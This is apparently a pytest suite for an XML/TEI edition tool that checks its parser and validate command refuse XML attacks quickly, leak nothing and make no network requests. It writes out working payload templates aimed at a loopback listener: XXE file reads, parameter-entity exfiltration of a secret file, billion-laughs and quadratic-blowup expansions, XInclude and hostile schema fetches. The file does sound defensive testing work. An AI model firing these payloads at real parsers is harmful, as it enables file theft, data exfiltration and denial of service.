"""XML attacks are refused with a clear message, quickly, and without a single network request.

Every attack document points at a loopback listener (``conftest.py``); after parsing or
validating, the listener must have seen no connection at all. A secret file stands in for
``/etc/passwd``: its content must never appear in any output.
"""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from edition import validation
from edition.cli import cli
from edition.validation import grammar
from edition.xmlio import UnreadableXML, parse_bytes

SECRET = "SECRET-TOKEN-7f3a"
RNG_NS = "http://relaxng.org/ns/structure/1.0"
SCH_NS = "http://purl.oclc.org/dsdl/schematron"
TEI = '<TEI xmlns="http://www.tei-c.org/ns/1.0" xmlns:xi="http://www.w3.org/2001/XInclude">'

# name -> (document with {url} and {secret} placeholders, rule of the refusal; None: harmless, accepted)
ATTACKS: dict[str, tuple[str, str | None]] = {
    "xxe-local-file": (f'<!DOCTYPE TEI [<!ENTITY x SYSTEM "file://{{secret}}">]>\n{TEI}<p>&x;</p></TEI>', "xml-entity"),
    "xxe-network": (f'<!DOCTYPE TEI [<!ENTITY x SYSTEM "{{url}}/xxe">]>\n{TEI}<p>&x;</p></TEI>', "xml-entity"),
    "xxe-public-id": (f'<!DOCTYPE TEI [<!ENTITY x PUBLIC "-//A//B" "{{url}}/pub">]>\n{TEI}<p>&x;</p></TEI>', "xml-entity"),
    "xxe-in-attribute": (f'<!DOCTYPE TEI [<!ENTITY x SYSTEM "{{url}}/attr">]>\n{TEI}<p n="&x;"/></TEI>', "xml-entity"),
    "parameter-entity": (f'<!DOCTYPE TEI [<!ENTITY % p SYSTEM "{{url}}/p.dtd"> %p;]>\n{TEI}<p>&leak;</p></TEI>', "xml-entity"),
    "parameter-entity-exfiltration": (
        f'<!DOCTYPE TEI [<!ENTITY % file SYSTEM "file://{{secret}}">\n'
        f'<!ENTITY % eval "<!ENTITY &#x25; send SYSTEM \'{{url}}/?x=%file;\'>"> %eval; %send;]>\n{TEI}</TEI>', "xml-entity"),
    "nested-parameter-entity": (
        f'<!DOCTYPE TEI [<!ENTITY % a "<!ENTITY b SYSTEM \'{{url}}/b\'>"> %a;]>\n{TEI}<p>&b;</p></TEI>', "xml-entity"),
    "external-dtd": (f'<!DOCTYPE TEI SYSTEM "{{url}}/tei.dtd">\n{TEI}<p>&leak;</p></TEI>', "xml-dtd"),
    "external-dtd-public": (f'<!DOCTYPE TEI PUBLIC "-//TEI//DTD TEI P5//EN" "{{url}}/tei.dtd">\n{TEI}</TEI>', "xml-dtd"),
    "local-dtd": ('<!DOCTYPE TEI SYSTEM "file://{secret}">\n' f"{TEI}</TEI>", "xml-dtd"),
    "billion-laughs": (
        "<!DOCTYPE TEI [\n<!ENTITY l0 \"ha\">\n"
        + "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">\n' for i in range(1, 10))
        + f"]>\n{TEI}<p>&l9;</p></TEI>", "xml-entity"),
    "quadratic-blowup": (
        f'<!DOCTYPE TEI [<!ENTITY a "{"x" * 50_000}">]>\n{TEI}<p>{"&a;" * 20_000}</p></TEI>', "xml-entity"),
    "xinclude-network": (f'{TEI}<xi:include href="{{url}}/inc.xml"/></TEI>', "xml-xinclude"),
    "xinclude-local-text": (f'{TEI}<p><xi:include href="file://{{secret}}" parse="text"/></p></TEI>', "xml-xinclude"),
    "xinclude-2003": ('<TEI xmlns="http://www.tei-c.org/ns/1.0"><x:include xmlns:x="http://www.w3.org/2003/XInclude" '
                      'href="{url}/old.xml"/></TEI>', "xml-xinclude"),
    "xinclude-fallback": (f'{TEI}<xi:include href="{{url}}/a.xml"><xi:fallback><xi:include href="{{url}}/b.xml"/>'
                          '</xi:fallback></xi:include></TEI>', "xml-xinclude"),
    "xinclude-relative-to-remote-base": (f'{TEI[:-1]} xml:base="{{url}}/"><xi:include href="inc.xml"/></TEI>', "xml-xinclude"),
    "xml-model-remote-rng": (f'<?xml-model href="{{url}}/schema.rng" schematypens="{RNG_NS}"?>\n{TEI}</TEI>', None),
    "xml-model-remote-sch": (f'<?xml-model href="{{url}}/rules.sch" schematypens="{SCH_NS}"?>\n{TEI}</TEI>', None),
    "xml-model-protocol-relative": (f'<?xml-model href="//127.0.0.1:1/schema.rng" schematypens="{RNG_NS}"?>\n{TEI}</TEI>', None),
    "xml-stylesheet-remote": (f'<?xml-stylesheet type="text/xsl" href="{{url}}/evil.xsl"?>\n{TEI}</TEI>', None),
    "xsi-schema-location": (f'{TEI[:-1]} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                            'xsi:schemaLocation="http://www.tei-c.org/ns/1.0 {url}/tei.xsd"></TEI>', None),
}
UTF16 = {"xxe-network-utf16": "xxe-network", "xinclude-network-utf16": "xinclude-network",
         "billion-laughs-utf16": "billion-laughs", "quadratic-blowup-utf16": "quadratic-blowup",
         "parameter-entity-utf16": "parameter-entity"}


def attack_bytes(name: str, url: str, secret: Path) -> bytes:
    template, _ = ATTACKS[UTF16.get(name, name)]
    text = template.replace("{url}", url).replace("{secret}", str(secret))
    if name in UTF16:  # the same attack in another encoding: byte-level checks must not be the only guard
        return ('<?xml version="1.0" encoding="UTF-16"?>\n' + text).encode("utf-16")
    return text.encode("utf-8")


def expected_rule(name: str) -> str | None:
    return ATTACKS[UTF16.get(name, name)][1]


ALL = [*ATTACKS, *UTF16]


@pytest.fixture
def secret(tmp_path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET)
    return path


@pytest.mark.parametrize("name", ALL)
def test_parser_refuses_quickly_and_silently(name, proves_silence, secret):
    listener = proves_silence
    data = attack_bytes(name, listener.url, secret)
    start = time.monotonic()
    if expected_rule(name) is None:
        parse_bytes(data, f"{name}.xml")  # harmless as long as nothing follows the pointer
    else:
        with pytest.raises(UnreadableXML) as caught:
            parse_bytes(data, f"{name}.xml")
        first = caught.value.diagnostics[0]
        assert first.rule == expected_rule(name), first.format()
        assert first.path == f"{name}.xml" and first.line >= 1 and first.column >= 1
        assert SECRET not in str(caught.value) and "LEAKED" not in str(caught.value)
    assert time.monotonic() - start < 2, "an attack must be refused at once, not after expanding"
    assert listener.silent, f"the parser made network requests: {listener.requests or listener.connections}"


def write_attacks(folder: Path, url: str, secret: Path) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = {}
    for name in ALL:
        paths[name] = folder / f"{name}.xml"
        paths[name].write_bytes(attack_bytes(name, url, secret))
    return paths


@pytest.mark.parametrize("name", ALL)
def test_validate_reports_the_attack_and_fetches_nothing(name, proves_silence, secret, tmp_path):
    listener = proves_silence
    path = write_attacks(tmp_path / "docs", listener.url, secret)[name]
    result = CliRunner().invoke(cli, ["validate", str(path)], catch_exceptions=False)
    output = result.output
    assert "Traceback" not in output
    assert SECRET not in output and "LEAKED" not in output
    if expected_rule(name) is not None:
        assert result.exit_code == 1, output
        assert re.search(rf"{re.escape(str(path))}:\d+:\d+: error: \[{expected_rule(name)}\]", output), output
    else:
        assert result.exit_code in (0, 1), output  # judged as TEI; the remote pointer is ignored
        if "xml-model" in name:  # said, not silently ignored
            assert re.search(rf"{re.escape(str(path))}:\d+:\d+: warning: \[xml-model\]", output), output
    assert listener.silent, f"validate made network requests: {listener.requests or listener.connections}"


def test_jing_only_sees_files_the_hardened_parser_accepted(proves_silence, secret, tmp_path, monkeypatch):
    if not validation.TEI_ALL_RNG.is_file():
        pytest.skip(f"tei_all.rng not found at {validation.TEI_ALL_RNG}")
    paths = write_attacks(tmp_path / "docs", proves_silence.url, secret)
    given: list[Path] = []
    real = grammar.validate_with_jing

    def recording(schema, files, *args, **kwargs):
        given.extend(files)
        return real(schema, files, *args, **kwargs) if shutil.which("jing") else {p: [] for p in files}

    monkeypatch.setattr(grammar, "validate_with_jing", recording)
    monkeypatch.setattr(grammar, "jing_available", lambda: True)
    validation.validate_paths([tmp_path / "docs"], schema="tei_all")
    accepted = {paths[name].resolve() for name in ALL if expected_rule(name) is None}
    assert {p.resolve() for p in given} == accepted
    assert proves_silence.silent, f"jing made network requests: {proves_silence.requests}"


def test_a_real_process_over_all_attacks_at_once(proves_silence, secret, tmp_path):
    """The console script on a folder of every attack: all reported, exit 1, no traceback, silence."""
    paths = write_attacks(tmp_path / "docs", proves_silence.url, secret)
    (tmp_path / "edition.toml").write_text('[validation]\nschema = "edition"\nhouse_rules = true\n')  # an edition's rules
    run = subprocess.run([sys.executable, "-m", "edition", "validate", str(tmp_path / "docs")],
                         capture_output=True, text=True, timeout=300, cwd=tmp_path)
    output = run.stdout + run.stderr
    assert run.returncode == 1, output
    assert "Traceback" not in output and SECRET not in output and "LEAKED" not in output
    for name, path in paths.items():
        if expected_rule(name):
            assert f"[{expected_rule(name)}]" in output and f"{path.name}:" in output, name
    assert proves_silence.silent, f"requests: {proves_silence.requests or proves_silence.connections}"


# --- schemas chosen by a document (xml-model) must not fetch either ---------------------------------

def schema_attack(folder: Path, url: str, kind: str, schema: str) -> Path:
    (folder / f"evil.{kind}").write_text(schema.replace("{url}", url))
    document = folder / "doc.xml"
    ns = RNG_NS if kind == "rng" else SCH_NS
    document.write_text(f'<?xml-model href="evil.{kind}" schematypens="{ns}"?>\n'
                        '<TEI xmlns="http://www.tei-c.org/ns/1.0"/>\n')
    return document


SCHEMA_ATTACKS = {
    "rng-include-network": ("rng", f'<grammar xmlns="{RNG_NS}"><include href="{{url}}/inc.rng"/></grammar>'),
    "rng-externalRef-network": ("rng", f'<grammar xmlns="{RNG_NS}"><start><externalRef href="{{url}}/e.rng"/></start></grammar>'),
    "rng-with-xxe": ("rng", f'<!DOCTYPE grammar [<!ENTITY x SYSTEM "{{url}}/x">]><grammar xmlns="{RNG_NS}">'
                            '<start><element name="TEI"><value>&x;</value></element></start></grammar>'),
    "sch-document-network": ("sch", f'<schema xmlns="{SCH_NS}"><pattern><rule context="/*">'
                                    "<assert test=\"document('{url}/d.xml')\">fetched</assert></rule></pattern></schema>"),
    "sch-xsl-include-network": ("sch", f'<schema xmlns="{SCH_NS}" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
                                       '<xsl:include href="{url}/i.xsl"/><pattern><rule context="/*">'
                                       '<assert test="true()">x</assert></rule></pattern></schema>'),
}


KNOWN_BUGS: dict[str, str] = {}


@pytest.mark.parametrize("name", [pytest.param(n, marks=pytest.mark.xfail(reason=KNOWN_BUGS[n], strict=True))
                                  if n in KNOWN_BUGS else n for n in SCHEMA_ATTACKS])
def test_a_hostile_schema_named_by_xml_model_fetches_nothing(name, proves_silence, tmp_path):
    kind, schema = SCHEMA_ATTACKS[name]
    document = schema_attack(tmp_path, proves_silence.url, kind, schema)
    result = CliRunner().invoke(cli, ["validate", str(document)])
    assert result.exception is None or isinstance(result.exception, SystemExit), (
        f"validate crashed: {result.exception!r}")
    assert "Traceback" not in result.output and "LEAKED" not in result.output
    assert result.exit_code in (0, 1, 2)
    assert proves_silence.silent, f"requests: {proves_silence.requests or proves_silence.connections}"
